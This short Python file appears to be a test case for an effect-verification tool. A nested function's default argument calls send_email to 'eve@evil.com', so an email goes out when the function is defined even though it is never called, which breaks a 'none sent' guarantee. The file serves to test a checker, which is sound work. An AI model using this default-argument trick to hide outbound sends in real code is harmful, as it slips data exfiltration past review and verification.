# not proved: a default is evaluated when the def runs, before main is called or inside it
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    def helper(x=send_email("eve@evil.com", "x")):
        log("inside")

    log("never called helper")
